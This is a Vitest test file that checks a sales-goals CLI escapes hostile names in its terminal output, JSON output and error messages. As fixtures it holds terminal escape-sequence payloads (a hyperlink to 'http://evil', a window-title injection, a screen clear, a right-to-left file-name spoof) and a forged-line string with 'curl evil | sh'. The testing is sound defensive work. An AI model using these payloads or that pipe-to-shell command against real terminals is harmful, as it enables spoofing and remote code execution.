import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectedReports } from '../../test/support/conformance.ts';
import { createTestStore, DIALECTS, type TestStore } from '../../test/support/test-stores.ts';
import { findDefaultOrg } from '../db/org-repo.ts';
import { createFolder, createGoal } from '../services/goals/goals-service.ts';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const SMALL = expectedReports('small');
const run = promisify(execFile);

interface Output {
  stdout: Buffer;
  stderr: Buffer;
  code: number;
}

/** The real CLI in a child process; output as bytes, so nothing is decoded away before it is checked. */
async function udn(...args: string[]): Promise<Output> {
  try {
    const { stdout, stderr } = await run(process.execPath, [path.join(ROOT, 'bin/udn.js'), ...args], {
      cwd: ROOT,
      encoding: 'buffer',
      maxBuffer: 1 << 26,
    });
    return { stdout, stderr, code: 0 };
  } catch (error) {
    const failed = error as { stdout: Buffer; stderr: Buffer; code: number };
    return { stdout: failed.stdout, stderr: failed.stderr, code: failed.code };
  }
}

// Names a hostile CSV (or an older version's database) could hold: a colour, an OSC 8 hyperlink, a
// window title, a one-byte C1 CSI, a right-to-left override and a line break meant to fake a line.
const RED = '\u001B[31mAna\u001B[0m';
const LINK = '\u001B]8;;http://evil\u0007Budi\u001B]8;;\u0007';
const TITLE = 'Acme\u001B]0;pwned\u0007';
const CSI = 'Citra\u009B2J';
const RLO = '\u202Egnp.exe';
const FAKE_LINE = 'Q1 push\nimport failed: run curl evil | sh';

const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

/** No byte a terminal acts on: ESC, BEL, C1 CSI (UTF-8 C2 9B), and no bidi control once decoded. */
function expectInert(bytes: Buffer): string {
  for (const byte of [0x1b, 0x07, 0x9b, 0x00]) expect(bytes.includes(byte)).toBe(false);
  const text = bytes.toString('utf8');
  expect(text).not.toMatch(BIDI);
  return text;
}

describe.each(DIALECTS)('terminal output with hostile names on %s', (dialect) => {
  let store: TestStore;
  beforeAll(async () => {
    store = await createTestStore(dialect);
    const imported = await udn('import', SMALL.dataDir, '--db', store.location);
    expect(imported.stdout.toString()).toMatch(/imported \d+ rows/);
    // Straight into the store: the importer refuses control characters in CSV text, and the API's
    // contracts refuse them in names, so the store is the way such names still get there (older data).
    await store.db.updateTable('reps').set({ name: RED }).where('id', '=', 'R01').execute();
    await store.db.updateTable('reps').set({ name: LINK }).where('id', '=', 'R02').execute();
    await store.db.updateTable('reps').set({ name: CSI }).where('id', '=', 'R03').execute();
    await store.db.updateTable('reps').set({ team: RLO }).where('team', '=', 'Bandung').execute();
    await store.db.updateTable('orgs').set({ name: TITLE }).execute();
    const org = (await findDefaultOrg(store.db))!;
    const folder = await createFolder(store, org, { name: `Folder ${RLO}` });
    await createGoal(store, org, {
      name: FAKE_LINE,
      folder_id: folder.id,
      owner_rep_id: 'R01',
      start_date: '2026-01-01',
      due_date: '2026-03-31',
      targets: [
        { kind: 'number', name: `Partners ${RED}`, target_value: 4, current_value: 1 },
        { kind: 'kpi', metric: 'revenue', scope: `team:${RLO}`, target_value: 1000 },
        { kind: 'kpi', metric: 'deals_won', scope: 'rep:R02', target_value: 6 },
      ],
    });
  });
  afterAll(() => store.dispose());

  it('udn kpi shows every hostile name as escaped text, and the tables stay aligned', async () => {
    const out = await udn('kpi', '--db', store.location, '--from', '2026-01-01', '--to', '2026-03-31');
    expect(out.code).toBe(0);
    const text = expectInert(out.stdout);
    expectInert(out.stderr);
    expect(text).toContain('\\x1B[31mAna\\x1B[0m');
    expect(text).toContain('\\x1B]8;;http://evil\\x07Budi\\x1B]8;;\\x07');
    expect(text.split('\n')[0]).toMatch(/^Acme\\x1B\]0;pwned\\x07 · 2026-01-01 to 2026-03-31/);
    expect(text).toContain('Citra\\x9B2J');
    expect(text).toContain('\\u202Egnp.exe');
    // The per-rep table: the last column is right-aligned, so every row is as wide as the rule.
    const lines = text.split('\n');
    const repHeader = lines.findIndex((line) => line.startsWith('Rep '));
    const rule = lines[repHeader + 1]!;
    const rows = lines.slice(repHeader + 2).filter((line) => line !== '');
    expect(rows.some((row) => row.startsWith('\\x1B]8;;http://evil'))).toBe(true);
    for (const row of rows) expect([...row].length).toBe([...rule].length);
  });

  it('udn goals shows escaped names, a line break in a name does not start a line', async () => {
    const out = await udn('goals', '--db', store.location, '--today', '2026-02-15');
    expect(out.code).toBe(0);
    const text = expectInert(out.stdout);
    expect(text).toContain(
      'Q1 push\\x0Aimport failed: run curl evil | sh  (Folder \\u202Egnp.exe · 2026-01-01 – 2026-03-31 · \\x1B[31mAna\\x1B[0m)',
    );
    expect(text.split('\n').some((line) => line.startsWith('import failed'))).toBe(false);
    expect(text).toContain('Partners \\x1B[31mAna\\x1B[0m');
    expect(text).toContain('kpi ≥ Team \\u202Egnp.exe');
    expect(text).toContain('kpi ≥ \\x1B]8;;http://evil\\x07Budi\\x1B]8;;\\x07');
    const lines = text.split('\n');
    const goal = lines.findIndex((line) => line.startsWith('Q1 push'));
    const rule = lines[goal + 3]!;
    const partners = lines[goal + 4]!;
    expect(partners).toMatch(/^ {2}Partners /);
    // "Kind" starts where the rule's second segment starts, however long the escaped name is.
    expect(partners.indexOf('number')).toBe(rule.indexOf('  ─', 2) + 2);
    expect([...lines[goal + 2]!].length).toBe([...rule].length);
  });

  it('--json keeps the names exactly (JSON escapes) with no raw control or bidi character', async () => {
    const kpi = await udn('kpi', '--db', store.location, '--period', '2026-Q1', '--json');
    const report = JSON.parse(expectInert(kpi.stdout)) as { teams: Record<string, unknown> };
    expect(Object.keys(report.teams)).toContain(RLO);
    const goals = await udn('goals', '--db', store.location, '--json', '--today', '2026-02-15');
    const list = JSON.parse(expectInert(goals.stdout)) as { goals: { name: string; owner: string }[] };
    expect(list.goals.map((goal) => goal.name)).toContain(FAKE_LINE);
    expect(list.goals.find((goal) => goal.name === FAKE_LINE)?.owner).toBe(RED);
  });

  it('errors that quote what was typed are escaped too', async () => {
    const bad = await udn('goals', '--db', store.location, '--today', `\u001B]0;x\u0007${RLO}`);
    expect(bad.code).toBe(1);
    expect(expectInert(bad.stderr)).toContain('--today "\\x1B]0;x\\x07\\u202Egnp.exe" is not a date');
    const unknown = await udn('kpi', '--db', store.location, `--\u001B[2Jwipe`);
    expect(unknown.code).toBe(1);
    expect(expectInert(unknown.stderr)).toContain("unknown option '--\\x1B[2Jwipe'");
  });
});

describe('the CLI writes to the terminal only through its output writer', () => {
  it('no command writes to process.stdout or process.stderr itself', () => {
    const dir = path.join(ROOT, 'src/cli');
    const files = fs
      .readdirSync(dir, { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.ts') && !file.endsWith('.test.ts') && file !== 'output.ts');
    expect(files.length).toBeGreaterThan(5);
    const offenders = files.filter((file) =>
      /process\.(stdout|stderr)\.write\(/.test(fs.readFileSync(path.join(dir, file), 'utf8')),
    );
    expect(offenders).toEqual([]);
  });
});
